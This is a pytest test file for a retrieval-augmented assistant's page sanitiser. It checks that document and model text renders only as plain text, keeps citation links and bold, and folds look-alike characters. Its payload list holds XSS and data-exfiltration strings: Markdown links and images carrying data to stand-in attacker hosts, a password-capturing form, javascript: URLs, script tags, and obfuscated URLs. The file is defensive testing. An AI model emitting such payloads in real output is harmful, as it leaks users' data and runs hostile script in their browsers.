"""The page sanitiser: nothing from a document or the model renders as markup (fast lane)."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from rag.assistant.present import answer_markdown, code, plain, unescape_answer

PAYLOADS = [
    "![x](http://127.0.0.1:9/t.png)",
    "[click](http://evil.example/?q=secret)",
    "<img src=http://evil.example/t.png>",
    "<form action=http://evil.example><input type=password name=p></form>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<script>alert(1)</script>",
    "```mermaid\ngraph TD; A-->B\n```",
    "<http://evil.example/auto>",
    "https://evil.example/bare www.evil.example",
    "ｈｔｔｐｓ://evil.example/fullwidth",  # look-alike letters
    "ht\u200btps://evil.example/zero-width",
    "[x]: http://evil.example/ref\n[y][x]",
    "# heading\n- list\n1. item\n---",
]
RENDER = MarkdownIt("commonmark", {"html": True})  # what a Markdown renderer with HTML allowed makes of it


@pytest.mark.parametrize("payload", PAYLOADS)
def test_document_and_model_text_render_as_text_only(payload):
    for shown in (plain(payload), answer_markdown(payload, "0")):
        rendered = RENDER.render(shown)
        assert not re.search(r"<(img|a|form|input|style|script|iframe|h1|ul|ol|hr|pre|code)\b", rendered), rendered
        assert not re.search(r"(https?|javascript):", rendered, re.I), rendered
    # An error message is shown verbatim in a code span: its URL is text, not a link.
    rendered = RENDER.render(code(payload))
    assert not re.search(r"<(img|a|form|input|style|script|iframe|h1|ul|ol|hr|pre)\b", rendered), rendered


def test_answers_keep_their_own_citation_links_and_bold():
    rendered = RENDER.render(answer_markdown("EMC2 **proposes** MCMC sampling [1].", "4"))
    assert '<a href="#src-4-1">[1]</a>' in rendered and "<strong>proposes</strong>" in rendered


def test_text_survives_the_round_trip_for_the_history():
    text = "It's <b>EMC2</b> [1]: a_b * c\n- item"
    assert unescape_answer(answer_markdown(text, "1")) == text


def test_format_characters_are_removed_and_look_alikes_folded():
    assert plain("a\u200bb\u202ec") == "abc"
    assert plain("ＥＭＣ２") == "EMC2"
